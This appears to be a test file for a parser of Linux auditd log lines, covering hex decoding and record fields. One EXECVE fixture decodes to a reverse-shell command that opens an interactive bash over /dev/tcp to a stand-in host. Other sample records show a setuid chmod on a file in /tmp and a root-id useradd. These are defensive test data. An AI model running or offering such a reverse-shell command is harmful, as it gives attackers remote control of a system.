import { strict as assert } from 'node:assert';
import { describe, test } from 'node:test';
import { decodeHex, decodeProctitle, parseAuditLine } from '../../../../src/map/linux/auditd/parse-line.ts';

// Lines recorded from auditd 3.0.9 (Debian 12, ENRICHED format) unless said otherwise.
const SYSCALL =
  'type=SYSCALL msg=audit(1795314109.332:51): arch=c000003e syscall=59 success=yes exit=0 a0=560688bc6a50 a1=560688bcf310 a2=560688ba3100 a3=e9363d2598538df9 items=2 ppid=10652 pid=10661 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="chmod" exe="/usr/bin/chmod" key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="unset" UID="root" GID="root" EUID="root" SUID="root" FSUID="root" EGID="root" SGID="root" FSGID="root"';

describe('parseAuditLine', () => {
  test('SYSCALL: type, id, time, raw and ENRICHED fields', () => {
    const r = parseAuditLine(SYSCALL)!;
    assert.equal(r.type, 'SYSCALL');
    assert.equal(r.id, '1795314109.332:51');
    assert.equal(r.time, '1795314109.332');
    assert.equal(r.node, '');
    assert.equal(r.standalone, false);
    assert.equal(r.fields.a0, '560688bc6a50', 'SYSCALL arguments stay raw hex: rules compare them so (a0: 40000)');
    assert.equal(r.fields.exe, '/usr/bin/chmod');
    assert.equal(r.fields.key, 'exec');
    assert.equal(r.fields.tty, '(none)');
    assert.equal(r.fields.SYSCALL, 'execve');
    assert.equal(r.fields.UID, 'root');
  });

  test('EXECVE: quoted and hex-encoded arguments', () => {
    const r = parseAuditLine(
      'type=EXECVE msg=audit(1795314109.776:878): argc=4 a0="logger" a1="-t" a2="test" a3=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E392F3434343420303E2631',
    )!;
    assert.deepEqual(r.fields, { argc: '4', a0: 'logger', a1: '-t', a2: 'test', a3: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' });
  });

  test('EXECVE: an argument split into a1[0], a1[1] … is joined and decoded', () => {
    const hex = Buffer.from('x'.repeat(10) + ' y').toString('hex').toUpperCase();
    const r = parseAuditLine(`type=EXECVE msg=audit(1.000:2): argc=2 a0="sh" a1_len=${hex.length / 2} a1[0]=${hex.slice(0, 10)} a1[1]=${hex.slice(10)}`)!;
    assert.equal(r.fields.a1, 'xxxxxxxxxx y');
    assert.equal(r.fields.a0, 'sh');
  });

  test('PROCTITLE: hex with NUL separators becomes a space-separated command line; quoted stays', () => {
    assert.equal(parseAuditLine('type=PROCTITLE msg=audit(1795314109.332:51): proctitle=63686D6F6400752B73002F746D702F726563772F63726F6E64')!.fields.proctitle, 'chmod u+s /tmp/recw/crond');
    assert.equal(parseAuditLine('type=PROCTITLE msg=audit(1795314109.764:872): proctitle="hostname"')!.fields.proctitle, 'hostname');
    assert.equal(decodeProctitle('61006200'), 'a b');
  });

  test('PATH: escaped name, unescaped fields, (null) kept', () => {
    const name = Buffer.from('/tmp/with space').toString('hex').toUpperCase();
    const r = parseAuditLine(`type=PATH msg=audit(1.000:3): item=0 name=${name} inode=1 nametype=CREATE\x1dOUID="root"`)!;
    assert.equal(r.fields.name, '/tmp/with space');
    assert.equal(r.fields.nametype, 'CREATE');
    assert.equal(parseAuditLine('type=PATH msg=audit(1.000:3): item=0 name=(null) inode=1')!.fields.name, '(null)');
  });

  test("user records: msg='…' is flattened, a bare word continues the previous value", () => {
    const r = parseAuditLine(
      "type=ADD_USER msg=audit(1795314109.724:851): pid=10801 uid=0 auid=4294967295 ses=4294967295 msg='op=adding user id=0 exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=? res=success'\x1dUID=\"root\" AUID=\"unset\" ID=\"root\"",
    )!;
    assert.equal(r.standalone, true);
    assert.equal(r.fields.op, 'adding user');
    assert.equal(r.fields.id, '0');
    assert.equal(r.fields.exe, '/usr/sbin/useradd');
    assert.equal(r.fields.res, 'success');
    assert.equal(r.fields.ID, 'root');
    assert.equal(r.fields.msg, undefined);
  });

  test('USER_CMD: hex cmd decoded', () => {
    const r = parseAuditLine(`type=USER_CMD msg=audit(1.000:4): pid=1 uid=1002 msg='cwd="/work/main" cmd=2F7573722F62696E2F6964 exe="/usr/bin/sudo" terminal=? res=success'`)!;
    assert.equal(r.fields.cmd, '/usr/bin/id');
    assert.equal(r.fields.terminal, '?');
  });

  test('node= prefix, DAEMON_* standalone, SOCKADDR braces', () => {
    const r = parseAuditLine('node=web1 type=DAEMON_START msg=audit(1795314094.360:7306): op=start ver=3.0.9 format=enriched res=success\x1dAUID="unset"')!;
    assert.equal(r.node, 'web1');
    assert.equal(r.standalone, true);
    const s = parseAuditLine('type=SOCKADDR msg=audit(1795314103.360:4): saddr=100000000000000000000000\x1dSADDR={ saddr_fam=netlink nlnk-fam=16 nlnk-pid=0 }')!;
    assert.equal(s.fields.SADDR, 'saddr_fam=netlink nlnk-fam=16 nlnk-pid=0');
    assert.equal(s.fields.saddr, '100000000000000000000000', 'saddr is not an escaped string field');
  });

  test('not auditd: undefined', () => {
    for (const line of ['', 'hello', 'type=SYSCALL', 'type=SYSCALL msg=audit(garbage', 'type=X msg=audit(123): a=1', 'Nov 22 02:22:28 vm sshd[1]: x', 'node=only']) {
      assert.equal(parseAuditLine(line), undefined, line);
    }
  });

  test('unterminated quotes take the rest of the line', () => {
    const r = parseAuditLine('type=SYSCALL msg=audit(1.000:5): comm="bash exe="/bin/bash')!;
    assert.equal(r.fields.comm, 'bash exe=');
    const u = parseAuditLine("type=USER_CMD msg=audit(1.000:6): pid=1 msg='cwd=\"/x\" res=success")!;
    assert.equal(u.fields.cwd, '/x');
    assert.equal(u.fields.res, 'success');
  });

  test('hostile: a 1 MB line parses in linear time', () => {
    const big = 'A'.repeat(1 << 20);
    const start = performance.now();
    const r = parseAuditLine(`type=EXECVE msg=audit(1.000:7): argc=2 a0="x" a1=${big}1`)!;
    assert.equal(r.fields.a1, big + '1', 'odd-length hex is not hex: kept as is');
    const q = parseAuditLine(`type=SYSCALL msg=audit(1.000:8): comm="${'"'.repeat(0)}${'x '.repeat(1 << 19)}`)!;
    assert.equal(q.fields.comm!.length, 1 << 20);
    const many = parseAuditLine(`type=SYSCALL msg=audit(1.000:9): ${'k=v '.repeat(1 << 18)}`)!;
    assert.equal(many.fields.k, 'v');
    assert.ok(performance.now() - start < 1000);
  });

  test('multiple keys are joined by 0x01 (split later by the event builder)', () => {
    const hex = Buffer.from('k1\x01k2').toString('hex').toUpperCase();
    assert.equal(parseAuditLine(`type=SYSCALL msg=audit(1.000:10): key=${hex}`)!.fields.key, 'k1\x01k2');
  });

  test('decodeHex leaves non-hex text alone', () => {
    assert.equal(decodeHex('2F746D70'), '/tmp');
    assert.equal(decodeHex('2f746d70'), '2f746d70', 'auditd writes upper case only');
    assert.equal(decodeHex('?'), '?');
    assert.equal(decodeHex(''), '');
  });
});

describe('standalone records', () => {
  test('kernel TTY record (recorded with pam_tty_audit): bare `tty` word skipped, data decoded, one-record event', () => {
    const r = parseAuditLine('type=TTY msg=audit(1795314971.180:3019): tty pid=31795 uid=1001 auid=4294967295 ses=4294967295 major=136 minor=0 comm="sh" data=69640A\x1dUID="ttyuser" AUID="unset"')!;
    assert.equal(r.standalone, true);
    assert.equal(r.fields.data, 'id\n');
    assert.equal(r.fields.pid, '31795');
    assert.equal(r.fields.tty, undefined);
    assert.equal(parseAuditLine('type=USER_TTY msg=audit(1.000:1): pid=1 uid=0 data=6C730A')!.standalone, true);
    assert.equal(parseAuditLine('type=PATH msg=audit(1.000:1): item=0 name="/x"')!.standalone, false);
  });
});
